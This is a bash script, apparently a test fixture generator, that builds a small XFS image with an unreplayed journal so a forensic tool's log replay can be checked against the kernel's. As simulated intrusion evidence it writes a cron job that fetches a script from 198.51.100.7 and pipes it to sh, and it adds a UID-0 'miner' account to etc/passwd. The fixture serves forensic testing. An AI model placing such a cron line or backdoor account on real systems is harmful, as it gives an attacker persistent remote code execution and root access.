#!/usr/bin/env bash
# make-dirty-xfs.sh OUT.img [v5|v4|wrap|live|bigrec]
#
# Builds a small XFS image that looks like a Linux root and leaves it the way
# a crash-consistent snapshot does: the newest writes only in the log. Phase 1
# (mounted, unmounted cleanly) lays down etc/passwd, etc/os-release and a few
# files. Phase 2 (mounted again) creates, rewrites and deletes files -- among
# them the journal-only cron job etc/cron.d/0miner and a directory of 200 files
# (a new inode chunk: an inode-create item) -- syncs so the data blocks and
# the log reach the disk, then `xfs_io -x -c 'shutdown -f'` flushes the log
# and stops the filesystem before any metadata is written back in place.
#
# The kernel replays that log on the next mount; tests compare snapscan's
# replay with a kernel mount of a copy. Needs root, mkfs.xfs, xfs_io, a
# kernel with XFS (and CONFIG_XFS_SUPPORT_V4 for v4). Prints nothing on
# success; the image's log is left dirty.
#
# wrap is v5 (1 KiB blocks) with, before the last changes, enough churn (files created,
# synced, deleted) that the log wraps and the pending part of it runs across
# the physical end of the log: the kernel's head cycle (from
# /sys/fs/xfs/<dev>/log) is ahead of its tail's.
#
# live is v5 without the shutdown: the image is copied while still mounted
# (after the log is flushed), as a cloud snapshot of a running server is;
# the copy is OUT.img, the original is unmounted normally and dropped.
#
# bigrec is v5 with phase 2 mounted -o logbsize=256k: log records of up to
# 256 KiB, whose cycle data spills into extended header sectors.
set -euo pipefail
out=${1:?usage: make-dirty-xfs.sh OUT.img [v5|v4|wrap|live|bigrec]}
kind=${2:-v5}
mnt=$(mktemp -d)
cleanup() { mountpoint -q "$mnt" && umount "$mnt"; rmdir "$mnt"; }
trap cleanup EXIT

rm -f "$out"
truncate -s 32M "$out"
args=(-q -f -L dirty)  # the default log is already the minimum (1368 blocks)
[ "$kind" = v4 ] && args+=(-m crc=0)
# 1 KiB blocks without reflink: the smallest log mkfs allows (2.5 MiB), so
# that wrapping it takes little churn.
[ "$kind" = wrap ] && args+=(-b size=1024 -m reflink=0)
# mkfs.xfs refuses filesystems under 300 MB unless these fstests variables
# are set: their purpose is small test filesystems.
TEST_DIR=1 TEST_DEV=1 QA_CHECK_FS=1 mkfs.xfs "${args[@]}" "$out"

mount -o loop "$out" "$mnt"
mkdir -p "$mnt"/etc/cron.d "$mnt"/bin "$mnt"/var/log "$mnt"/root
printf 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n' >"$mnt/etc/passwd"
printf 'NAME="Debian GNU/Linux"\nID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n' >"$mnt/etc/os-release"
printf 'snap\n' >"$mnt/etc/hostname"
printf '#!/bin/sh\necho old\n' >"$mnt/bin/old-tool"
printf 'MAILTO=root\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >"$mnt/etc/crontab"
head -c 300000 /dev/urandom >"$mnt/var/log/big.log"
head -c 2000000 /dev/urandom >"$mnt/var/log/old.log"
mkdir "$mnt/var/cache"
for i in $(seq 1 150); do printf 'cache %d\n' "$i" >"$mnt/var/cache/c-$i"; done
umount "$mnt"

# Phase 2: what the running system did just before the snapshot.
opts=loop
[ "$kind" = bigrec ] && opts=loop,logbsize=256k
mount -o "$opts" "$out" "$mnt"
if [ "$kind" = wrap ]; then
  sys=/sys/fs/xfs/$(basename "$(findmnt -n -o SOURCE "$mnt")")/log
  for round in $(seq 1 300); do
    mkdir "$mnt/churn"
    for i in $(seq 1 100); do : >"$mnt/churn/f$i"; done
    rm -rf "$mnt/churn"
    head=$(cat "$sys/log_head_lsn") tail=$(cat "$sys/log_tail_lsn")
    # cycle:block; stop once the pending part of the log straddles its end.
    if [ "${head%%:*}" -gt "${tail%%:*}" ] && [ "${head#*:}" -gt 50 ]; then break; fi
  done
  [ "${head%%:*}" -gt "${tail%%:*}" ] || { echo "log did not wrap: head $head tail $tail" >&2; exit 1; }
fi
printf '* * * * * root curl -s http://198.51.100.7/x.sh | sh\n' >"$mnt/etc/cron.d/0miner"
chmod 644 "$mnt/etc/cron.d/0miner"
printf 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nminer:x:0:0::/root:/bin/sh\n' >"$mnt/etc/passwd"
rm "$mnt/bin/old-tool"
mkdir "$mnt/var/spool"
for i in $(seq 1 200); do printf 'job %d\n' "$i" >"$mnt/var/spool/job-$i"; done
ln -s /etc/cron.d/0miner "$mnt/root/link"
head -c 50000 /dev/urandom >>"$mnt/var/log/big.log"
mv "$mnt/etc/hostname" "$mnt/etc/hostname.old"
# A checkpoint of its own, then frees: a deleted directory's blocks and
# inode chunk (buffer cancellations), a large file's extents (free intents).
sync -f "$mnt"
rm -rf "$mnt/var/cache" "$mnt/var/log/old.log"
# Inactivating unlinked inodes (freeing their blocks and chunk) runs in the
# background since Linux 5.15: give it a moment to reach the log.
sleep 1
sync -f "$mnt"
setfattr -n user.origin -v dropper "$mnt/etc/cron.d/0miner"
setfattr -n user.big -v "$(head -c 600 /dev/zero | tr '\0' x)" "$mnt/etc/passwd"
printf 'rewritten after the deletes\n' >"$mnt/etc/motd"
# Hundreds of extents (every other 4 KiB written): the data fork becomes a
# B-tree, whose root the inode item logs.
cmds=()
for i in $(seq 0 299); do cmds+=(-c "pwrite -q -S $((i % 250 + 1)) $((i * 8))k 4k"); done
xfs_io -f "${cmds[@]}" "$mnt/var/log/fragmented"
mkdir "$mnt/var/cache"
for i in $(seq 1 40); do printf 'new cache %d\n' "$i" >"$mnt/var/cache/n-$i"; done
sync -f "$mnt"
if [ "$kind" = live ]; then
  cp --sparse=always "$out" "$out.live"
  umount "$mnt"
  mv "$out.live" "$out"
  exit 0
fi
xfs_io -x -c 'shutdown -f' "$mnt"
umount "$mnt"
